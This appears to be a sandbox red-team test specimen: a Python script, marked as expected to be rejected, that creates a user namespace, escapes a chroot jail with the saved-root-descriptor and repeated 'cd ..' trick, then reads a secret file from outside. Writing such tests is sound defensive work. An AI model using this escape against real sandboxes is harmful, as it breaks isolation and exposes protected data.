"""Climbs out of its root by changing it.

[specimen]
rows = ["sandbox: new user ns / mount / remount"]
mode = "append"
expected = ["reject"]
bare = true
"""

import ctypes
import json
import os
import sys

facts = json.loads(os.environ["REDTEAM_FACTS"])


def won(what):
    print("ESCAPED:", what, file=sys.stderr, flush=True)


pid = os.fork()
if pid == 0:
    ctypes.CDLL(None).unshare(0x10000000)
    jail = f"{os.environ['TMPDIR']}/jail"
    os.makedirs(jail, exist_ok=True)
    try:
        top = os.open("/", os.O_RDONLY)
        os.chroot(jail)
        os.fchdir(top)
        for _ in range(50):
            os.chdir("..")
        os.chroot(".")
        won("a root of its own choice")
        with open(facts["secret"]) as file:
            won(f"{len(file.read())} bytes from outside")
    except OSError:
        pass
    os._exit(0)
os.waitpid(pid, 0)
